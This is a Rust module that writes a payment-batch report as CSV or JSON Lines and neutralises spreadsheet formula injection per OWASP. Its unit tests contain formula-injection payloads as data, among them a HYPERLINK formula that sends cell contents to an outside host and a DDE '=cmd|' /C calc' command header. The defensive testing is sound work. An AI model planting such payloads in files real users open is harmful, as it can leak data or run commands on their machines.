//! The report: a header, then one row per input row in input order, as CSV or JSON Lines.
//!
//! A report is imported by a finance desk into a spreadsheet, and its cells hold text from the
//! input file and from the service's answers: a CSV cell that begins with `=`, `+`, `-`, `@`,
//! a tab or a carriage return is written after a single quote, as OWASP recommends against
//! formula injection, so that no spreadsheet evaluates it. That holds for every cell, a
//! negative amount or an ID written with a leading `-` included (such a row is invalid
//! anyway): a cell the report neutralises is one a spreadsheet would have read as a formula.
//! JSON Lines is data for programs and is written as it is.
//!
//! An input column named as one of the report's own ([`REPORT_COLUMNS`]: `verdict`, `detail`,
//! `line`…) is renamed `input_verdict` (`input_input_verdict` if the input has that too, and
//! so on), in both formats: a report fed back as input keeps every column, and a header never
//! says twice `verdict` with two meanings.

use std::borrow::Cow;
use std::io::Write;

use super::error::JournalError;
use super::input::Format;
use super::journal::{Journal, RowRecord};
use crate::Verdict;

/// The report's own columns, before the input's extra columns.
pub const REPORT_COLUMNS: [&str; 17] = [
    "line",
    "transaction_id",
    "merchant_id",
    "store_id",
    "terminal_id",
    "amount",
    "card_present_status",
    "verdict",
    "exit_class",
    "transaction_status",
    "primary_transaction_status",
    "response_code",
    "refund_transaction_id",
    "attempts",
    "run",
    "step",
    "detail",
];

/// Writes the report of every row of `journal` to `out`; `exit_class` gives each row's
/// `exit_class` column, the exit code the caller's own command would give that row alone (the
/// command-line tool's table: a library has no exit codes of its own).
pub fn write_report(
    journal: &Journal,
    format: Format,
    exit_class: fn(Verdict) -> u8,
    out: impl Write,
) -> Result<(), ReportError> {
    let extra = journal.extra_columns()?;
    let names = extra_names(&extra);
    match format {
        Format::Csv => {
            let mut writer = csv::Writer::from_writer(out);
            let header = REPORT_COLUMNS
                .iter()
                .copied()
                .chain(names.iter().map(String::as_str))
                .map(csv_cell);
            writer.write_record(header)?;
            let mut failure = None;
            journal
                .for_each_row(|row| {
                    let mut fields = own_fields(row, exit_class);
                    fields.extend(extra.iter().map(|name| extra_value(row, name)));
                    let cells = fields.iter().map(|cell| csv_cell(cell));
                    if let Err(error) = writer.write_record(cells) {
                        failure = Some(error);
                        return Err(JournalError::WriterGone);
                    }
                    Ok(())
                })
                .map_err(|error| match failure.take() {
                    Some(csv_error) => ReportError::Csv(csv_error),
                    None => ReportError::Journal(error),
                })?;
            writer.flush().map_err(ReportError::Io)?;
        }
        Format::JsonLines => {
            let mut out = std::io::BufWriter::new(out);
            let mut failure = None;
            journal
                .for_each_row(|row| {
                    let mut object = serde_json::Map::new();
                    for (name, value) in REPORT_COLUMNS.iter().zip(own_fields(row, exit_class)) {
                        object.insert((*name).to_owned(), serde_json::Value::String(value));
                    }
                    object.insert("line".into(), row.line.into());
                    object.insert("exit_class".into(), exit_class(row.verdict).into());
                    object.insert("attempts".into(), row.attempts.into());
                    object.insert("run".into(), row.run.into());
                    for (name, value) in &row.raw.extra {
                        let name = extra
                            .iter()
                            .position(|n| n == name)
                            .and_then(|i| names.get(i))
                            .unwrap_or(name);
                        object.insert(name.clone(), value.clone().into());
                    }
                    let written = serde_json::to_writer(&mut out, &object)
                        .map_err(std::io::Error::from)
                        .and_then(|()| out.write_all(b"\n"));
                    if let Err(error) = written {
                        failure = Some(error);
                        return Err(JournalError::WriterGone);
                    }
                    Ok(())
                })
                .map_err(|error| match failure.take() {
                    Some(io_error) => ReportError::Io(io_error),
                    None => ReportError::Journal(error),
                })?;
            out.flush().map_err(ReportError::Io)?;
        }
    }
    Ok(())
}

/// The report's names of the input's extra columns, in the same order: a name the report uses
/// for a column of its own is prefixed with `input_` until it names nothing else.
fn extra_names(extra: &[String]) -> Vec<String> {
    let mut taken: std::collections::HashSet<String> = REPORT_COLUMNS
        .iter()
        .map(|name| (*name).to_owned())
        .chain(extra.iter().cloned())
        .collect();
    extra
        .iter()
        .map(|name| {
            if !REPORT_COLUMNS.contains(&name.as_str()) {
                return name.clone();
            }
            let mut candidate = format!("input_{name}");
            while taken.contains(&candidate) {
                candidate.insert_str(0, "input_");
            }
            taken.insert(candidate.clone());
            candidate
        })
        .collect()
}

/// `cell` as a spreadsheet reads it as text: after a single quote when it would otherwise be
/// read as a formula (OWASP, "CSV Injection").
fn neutralised(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{cell}")),
        _ => Cow::Borrowed(cell),
    }
}

fn csv_cell(cell: &str) -> Cow<'_, [u8]> {
    match neutralised(cell) {
        Cow::Borrowed(text) => Cow::Borrowed(text.as_bytes()),
        Cow::Owned(text) => Cow::Owned(text.into_bytes()),
    }
}

fn own_fields(row: &RowRecord, exit_class: fn(Verdict) -> u8) -> Vec<String> {
    let raw = &row.raw;
    vec![
        row.line.to_string(),
        raw.transaction_id.clone(),
        raw.merchant_id.clone(),
        raw.store_id.clone(),
        raw.terminal_id.clone(),
        raw.amount.clone(),
        raw.card_present_status.clone(),
        row.verdict.as_str().to_owned(),
        exit_class(row.verdict).to_string(),
        row.transaction_status.clone().unwrap_or_default(),
        row.primary_transaction_status.clone().unwrap_or_default(),
        row.response_code.clone().unwrap_or_default(),
        row.refund_id.clone().unwrap_or_default(),
        row.attempts.to_string(),
        row.run.to_string(),
        row.step.clone(),
        row.detail.clone(),
    ]
}

fn extra_value(row: &RowRecord, name: &str) -> String {
    row.raw
        .extra
        .iter()
        .find(|(n, _)| n == name)
        .map(|(_, v)| v.clone())
        .unwrap_or_default()
}

/// The report cannot be written.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum ReportError {
    /// Reading the journal failed.
    #[error("cannot read the journal")]
    Journal(#[from] JournalError),
    /// Writing CSV failed.
    #[error("cannot write the CSV report")]
    Csv(#[from] csv::Error),
    /// Writing failed.
    #[error("cannot write the report")]
    Io(std::io::Error),
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::batch::input::csv_rows;

    const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

    /// A journal loaded with `csv` (nothing sent: rows pending or invalid), and its report.
    fn report_of(csv: &str, format: Format) -> String {
        let dir = tempfile::tempdir().unwrap();
        let mut journal = Journal::open(dir.path().join("journal.db")).unwrap();
        let rows = csv_rows(std::io::Cursor::new(csv.to_owned().into_bytes())).unwrap();
        journal.load(rows).unwrap();
        let mut out = Vec::new();
        write_report(&journal, format, |_| 0, &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    fn csv_cells(report: &str) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(report.as_bytes())
            .records()
            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn csv_report_cells_a_spreadsheet_would_evaluate_start_with_a_quote() {
        let hostile = [
            "=HYPERLINK(\"http://x.test/?\"&A1)",
            "+SUM(1+1)",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
        ];
        let mut input = String::from(
            "transaction_id,merchant_id,store_id,terminal_id,amount,note,=cmd|' /C calc'!A0\n",
        );
        for (i, value) in hostile.iter().enumerate() {
            let quoted = format!("\"{}\"", value.replace('"', "\"\""));
            input.push_str(&format!(
                "ABC{i:03},123123123,123,123,-5.00,{quoted},{quoted}\n"
            ));
        }
        // An ID and an amount written with a leading `-` are neutralised like any other cell.
        input.push_str("-ABC999,123123123,123,123,1.00,plain,plain\n");
        let cells = csv_cells(&report_of(&input, Format::Csv));
        for row in &cells {
            for cell in row {
                assert!(
                    !cell.starts_with(FORMULA_STARTS),
                    "{cell:?} would be read as a formula"
                );
            }
        }
        let header = &cells[0];
        // Input headers are lower-cased on the way in.
        assert_eq!(header.last().unwrap(), "'=cmd|' /c calc'!a0");
        let note = header.iter().position(|name| name == "note").unwrap();
        for (row, value) in cells[1..].iter().zip(hostile) {
            // CSV input is trimmed on the way in: a leading tab or CR is gone, the `=` stays.
            assert_eq!(row[note], format!("'{}", value.trim()));
            assert_eq!(row[note + 1], format!("'{}", value.trim()));
            assert_eq!(row[5], "'-5.00", "the amount");
        }
        let last = cells.last().unwrap();
        assert_eq!(last[1], "'-ABC999");
        assert_eq!(last[note], "plain", "a harmless cell is left alone");
    }

    #[test]
    fn every_cell_owasp_names_is_neutralised_and_no_other() {
        for start in FORMULA_STARTS {
            let cell = format!("{start}1+1");
            assert_eq!(neutralised(&cell), format!("'{cell}"));
        }
        for harmless in ["", "1+1", "INV-1", " =1", "'=1", "voided", "12.50"] {
            assert_eq!(neutralised(harmless), harmless);
        }
    }

    #[test]
    fn json_lines_reports_keep_the_values_as_they_are() {
        let input = "transaction_id,merchant_id,store_id,terminal_id,note\n\
                     ABC001,123123123,123,123,=1+1\n";
        let report = report_of(input, Format::JsonLines);
        let row: serde_json::Value = serde_json::from_str(report.lines().next().unwrap()).unwrap();
        assert_eq!(row["note"], "=1+1");
    }

    #[test]
    fn input_columns_named_as_report_columns_are_renamed_in_both_formats() {
        let input = "transaction_id,merchant_id,store_id,terminal_id,verdict,detail,\
                     input_detail,line,exit_class,invoice\n\
                     ABC001,123123123,123,123,voided,theirs,also theirs,7,0,INV-1\n";
        let cells = csv_cells(&report_of(input, Format::Csv));
        let header = &cells[0];
        let mut unique = header.clone();
        unique.sort();
        unique.dedup();
        assert_eq!(unique.len(), header.len(), "a name twice in {header:?}");
        let extra = &header[REPORT_COLUMNS.len()..];
        assert_eq!(
            extra,
            [
                "input_verdict",
                "input_input_detail",
                "input_detail",
                "input_line",
                "input_exit_class",
                "invoice"
            ]
        );
        let row = &cells[1];
        let at = |name: &str| &row[header.iter().position(|h| h == name).unwrap()];
        assert_eq!(at("verdict"), "pending");
        assert_eq!(at("input_verdict"), "voided");
        assert_eq!(at("detail"), "");
        assert_eq!(at("input_input_detail"), "theirs");
        assert_eq!(at("input_detail"), "also theirs");
        assert_eq!(at("line"), "2");
        assert_eq!(at("input_line"), "7");

        let report = report_of(input, Format::JsonLines);
        let row: serde_json::Value = serde_json::from_str(report.lines().next().unwrap()).unwrap();
        assert_eq!(row["verdict"], "pending");
        assert_eq!(row["input_verdict"], "voided");
        assert_eq!(row["input_input_detail"], "theirs");
        assert_eq!(row["input_detail"], "also theirs");
        assert_eq!(row["line"], 2);
        assert_eq!(row["input_line"], "7");
        assert_eq!(row["input_exit_class"], "0");
        assert_eq!(row["invoice"], "INV-1");
    }
}
